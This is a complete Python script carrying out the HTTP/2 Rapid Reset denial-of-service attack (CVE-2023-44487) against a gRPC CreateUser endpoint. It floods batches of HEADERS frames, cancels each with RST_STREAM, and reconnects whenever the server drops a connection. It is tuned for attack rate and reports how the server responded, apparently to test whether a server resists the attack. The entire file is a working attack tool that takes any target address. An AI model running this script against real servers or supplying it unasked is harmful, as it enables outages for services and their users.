#!/usr/bin/env python3
"""Rapid reset (CVE-2023-44487) against a CreateUser server: opens streams with HEADERS for
/users.Users/CreateUser and cancels each at once with RST_STREAM CANCEL, in batches, over a
few HTTP/2 connections (h2 over TCP).

usage: rapid_reset.py --addr HOST:PORT [--streams N] [--connections C] [--batch B]
                      [--max-seconds S]

Streams are spread over the connections round-robin, B at a time per connection (HEADERS and
RST_STREAM for each, in one write), reading whatever the server sent in between. A connection
the server ends (GOAWAY or a close) is counted and replaced by a new one. Once every stream is
sent, each connection is pinged and the PING ACK awaited, so the server has read everything.
Prints one JSON object: streams sent, seconds, connections opened, GOAWAYs by error code and
debug data, connections closed without GOAWAY, and the frames the server sent back by type
(RST_STREAM by error code). Exits 1 when the server could no longer be connected to, or when
--max-seconds passed first.
"""
import argparse
import collections
import json
import select
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors

from h2conn import FRAME_NAMES, error_name, grpc_headers

SETTINGS_ACK = bytes([0, 0, 0, 0x4, 0x1, 0, 0, 0, 0])  # empty SETTINGS frame, flag ACK
PING_MARK = b"rr-done!"


class RapidConn:
    """One connection: h2 encodes the HEADERS and RST_STREAM frames; what the server sends is
    only counted, by a frame reader much lighter than h2's state machine (which would about
    double the client's work per stream and so halve the rate of the attack). The reader
    acknowledges the server's SETTINGS and PINGs itself."""

    def __init__(self, host, port):
        self.sock = socket.create_connection((host, port), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        self.h2 = h2.connection.H2Connection(config=config)
        self.h2.initiate_connection()
        self.buf = b""
        self.frames = collections.Counter()  # received, by type (RST_STREAM by code)
        self.goaway = None  # "CODE 'debug data'"
        self.closed = False
        self.ping_acked = False
        self.flush()

    @property
    def ended(self):
        return self.closed or self.goaway is not None

    def flush(self, extra=b""):
        data = self.h2.data_to_send() + extra
        view = memoryview(data)
        while view and not self.closed:
            try:
                view = view[self.sock.send(view):]
            except BlockingIOError:
                # The server is not reading: read what it sent meanwhile, then wait to write.
                self.read(0)
                select.select([self.sock], [self.sock], [], 1.0)
            except (BrokenPipeError, ConnectionResetError):
                self.closed = True

    def read(self, timeout):
        """Reads what the server sent (waiting up to `timeout` s for the first bytes)."""
        acks = b""
        while not self.closed:
            if not select.select([self.sock], [], [], timeout)[0]:
                break
            timeout = 0
            try:
                data = self.sock.recv(1 << 20)
            except BlockingIOError:
                break
            except ConnectionResetError:
                data = b""
            if not data:
                self.closed = True
                break
            self.buf += data
            acks += self.parse()
        if acks:
            self.flush(acks)

    def parse(self):
        acks = b""
        buf, pos = self.buf, 0
        while len(buf) - pos >= 9:
            length = int.from_bytes(buf[pos:pos + 3], "big")
            if len(buf) - pos < 9 + length:
                break
            kind, flags = buf[pos + 3], buf[pos + 4]
            payload = buf[pos + 9:pos + 9 + length]
            pos += 9 + length
            name = FRAME_NAMES.get(kind, str(kind))
            if name == "SETTINGS" and not flags & 0x1:
                acks += SETTINGS_ACK
            elif name == "PING":
                if flags & 0x1:
                    self.ping_acked |= payload == PING_MARK
                else:
                    acks += bytes([0, 0, 8, 0x6, 0x1, 0, 0, 0, 0]) + payload
            elif name == "RST_STREAM":
                name += " " + error_name(int.from_bytes(payload[:4], "big"))
            elif name == "GOAWAY":
                code = error_name(int.from_bytes(payload[4:8], "big"))
                debug = payload[8:].decode("utf-8", "replace")
                self.goaway = code + (f" {debug!r}" if debug else "")
            self.frames[name] += 1
        self.buf = buf[pos:]
        return acks


class Attacker:
    def __init__(self, host, port):
        self.host, self.port = host, port
        self.opened = 0
        self.goaways = collections.Counter()
        self.closed_without_goaway = 0
        self.frames = collections.Counter()

    def connect(self):
        self.opened += 1
        return RapidConn(self.host, self.port)

    def retire(self, conn):
        """Adds up what a connection saw, and how it ended when the server ended it."""
        self.frames.update(conn.frames)
        if conn.goaway is not None:
            self.goaways[conn.goaway] += 1
        elif conn.closed:
            self.closed_without_goaway += 1
        conn.sock.close()


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--addr", required=True)
    parser.add_argument("--streams", type=int, default=100000)
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--batch", type=int, default=100)
    parser.add_argument("--max-seconds", type=float, default=120.0)
    args = parser.parse_args()

    host, port = args.addr.rsplit(":", 1)
    attacker = Attacker(host, int(port))
    started = time.monotonic()
    deadline = started + args.max_seconds
    conns = [attacker.connect() for _ in range(args.connections)]
    headers = grpc_headers(f"{host}:{port}")
    cancel = h2.errors.ErrorCodes.CANCEL
    sent = 0
    try:
        while sent < args.streams:
            if time.monotonic() > deadline:
                raise TimeoutError(f"{sent} of {args.streams} streams sent in {args.max_seconds:g} s")
            for i, conn in enumerate(conns):
                if sent >= args.streams:
                    break
                if conn.ended:
                    attacker.retire(conn)
                    conn = conns[i] = attacker.connect()
                count = min(args.batch, args.streams - sent)
                for _ in range(count):
                    sid = conn.h2.get_next_available_stream_id()
                    conn.h2.send_headers(sid, headers)
                    conn.h2.reset_stream(sid, error_code=cancel)
                conn.flush()
                sent += count
                conn.read(0)
        # Every connection still up is pinged: the ACK comes after the server read the rest.
        for conn in conns:
            if not conn.ended:
                conn.h2.ping(PING_MARK)
                conn.flush()
            while not conn.ping_acked and not conn.ended:
                if time.monotonic() > deadline:
                    raise TimeoutError("no PING ACK from the server before --max-seconds")
                conn.read(0.2)
        for conn in conns:
            attacker.retire(conn)
    except (OSError, TimeoutError) as e:
        print(json.dumps({"error": f"{type(e).__name__}: {e}", "streams": sent}))
        return 1
    elapsed = time.monotonic() - started
    print(json.dumps({
        "streams": sent,
        "seconds": round(elapsed, 3),
        "streams_per_s": round(sent / elapsed),
        "connections_opened": attacker.opened,
        "goaway": sum(attacker.goaways.values()),
        "goaway_by_code": dict(attacker.goaways),
        "closed_without_goaway": attacker.closed_without_goaway,
        "server_frames": dict(attacker.frames),
    }))
    return 0


if __name__ == "__main__":
    sys.exit(main())
